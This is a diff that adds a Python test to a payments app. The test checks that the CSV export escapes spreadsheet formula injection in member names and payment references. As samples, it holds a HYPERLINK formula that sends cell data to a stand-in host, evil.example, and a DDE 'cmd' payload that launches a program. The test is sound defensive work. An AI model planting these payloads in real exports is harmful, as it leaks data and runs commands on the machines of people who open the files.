@@ -183,6 +183,25 @@ async def test_csv_export_streams_the_filtered_payments(bob, alice):
     assert rows[0]["receipt_number"].startswith("RCP-")
 
 
+async def test_csv_export_writes_formulas_from_names_and_references_as_text(bob):
+    # Names and references come from people and gateways; a spreadsheet would run these as formulas.
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    member = await make_member(name, "@SUM(A1:A9)", number="PTF0301")
+    await invoice_for(member, 3000)
+    references = ["=cmd|' /C calc'!A0", "+254712345678", "-2+3", "@A1"]
+    for reference in references:
+        await pay(member, 500, method="bank", reference=reference)
+    await pay(member, 250, method="bank", reference="KCB-77")  # ordinary text stays as it is
+
+    r = await bob.get("/payments.csv")
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    assert sorted(row["reference"] for row in rows) == sorted(["'" + ref for ref in references] + ["KCB-77"])
+    assert {row["member_name"] for row in rows} == {f"'{name} @SUM(A1:A9)"}
+    # Our numbers stay numbers a spreadsheet adds up.
+    assert sorted(row["amount"] for row in rows) == ["250.00"] + ["500.00"] * 4
+    assert all(not row[c].startswith(("=", "+", "-", "@")) for row in rows for c in row)
+
+
 async def _bulk_payments(n: int) -> None:
     """n completed cash payments spread over members, inserted in SQL (a size test, not a story)."""
     from piccolo.engine import engine_finder
